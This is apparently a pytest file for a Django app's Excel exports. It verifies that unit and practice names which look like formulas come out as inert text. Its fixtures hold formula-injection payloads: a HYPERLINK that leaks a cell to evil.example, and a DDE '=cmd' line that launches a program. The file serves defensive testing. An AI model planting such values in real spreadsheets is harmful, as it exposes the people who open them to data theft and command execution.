"""Every Excel export and template keeps a text that Excel would take for a formula as plain text (DESIGN §4.10):
a unit or a practice named "=HYPERLINK(…)" comes out as the words typed, shown as written, never a live formula."""

import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from danvan.demo.reporting import load_demo_reporting
from danvan.orgunits.models import OrgUnit
from danvan.practices import services
from danvan.practices.models import Practice
from danvan.reporting.models import Form
from tests import factories

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")'
COMMAND = "=cmd|' /C calc'!A0"
OTHERS = ["+84 206 385 123", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(units, commune_editor, province_admin, fields):
    """Phường Thục Phán renamed as a formula, a hamlet and a practice of it with formula-like texts."""
    OrgUnit.objects.filter(pk=units["thuc_phan"].pk).update(name=LINK)
    units["thuc_phan"].refresh_from_db()
    factories.hamlet(units["thuc_phan"], COMMAND)
    services.register_practice(
        commune_editor,
        owner=units["thuc_phan"],
        fields=[fields["kinh-te"]],
        name=COMMAND,
        registration_year=2026,
        kind=Practice.Kind.MODEL,
        contact_phone=OTHERS[0],
        contact_name=OTHERS[1],
        summary=OTHERS[2],
        method=OTHERS[3],
        participants=OTHERS[4],
    )
    return units


def texts_and_formulas(content: bytes) -> tuple[set[str], list[str]]:
    """Every text of the workbook, and the coordinates of the cells that would act as a formula: stored as one,
    or a formula-like text without the quote prefix that keeps Excel from reading it when the cell is edited."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts, live = set(), []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    live.append(f"{sheet.title}!{cell.coordinate}")
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix:
                        live.append(f"{sheet.title}!{cell.coordinate}")
    return texts, live


def download(client, url, params) -> bytes:
    response = client.get(url, params)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return response.content


EXPORTS = {
    "units": ("orgunits:export_units", lambda u: {"unit": u["thuc_phan"].pk}, [LINK, COMMAND]),
    "units-template": ("orgunits:import_template", lambda u: {"unit": u["thuc_phan"].pk}, [LINK]),
    "practices": (
        "practices:export_practices",
        lambda u: {"unit": u["thuc_phan"].pk},
        [LINK, COMMAND, *OTHERS[:3]],
    ),
    "practices-template": ("practices:import_template", lambda u: {"unit": u["thuc_phan"].pk}, [LINK]),
    "practice-counts": (
        "practices:stats_export",
        lambda u: {"unit": u["thuc_phan"].pk, "year": 2026},
        [LINK],
    ),
}


@pytest.mark.parametrize("export", list(EXPORTS))
def test_formula_like_texts_come_out_as_plain_text_in_every_export(
    hostile, province_admin, client_for, export
):
    url, params, expected = EXPORTS[export]
    texts, live = texts_and_formulas(download(client_for(province_admin), reverse(url), params(hostile)))
    assert live == []
    found = " ".join(texts)
    assert all(text in found for text in expected), (expected, sorted(texts)[:20])


def test_formula_like_unit_names_come_out_as_plain_text_in_the_reporting_export(
    units, province_admin, client_for
):
    load_demo_reporting()
    OrgUnit.objects.filter(pk=units["nung_tri_cao"].pk).update(name=LINK)  # a commune with its 2026H1 report
    form = Form.objects.get(code="so-ket-dan-van-6-thang")
    params = {"form": form.pk, "unit": units["cao_bang"].pk, "period": "2026H1"}
    content = download(client_for(province_admin), reverse("reporting:analytics_export"), params)
    texts, live = texts_and_formulas(content)
    assert live == []
    assert LINK in texts
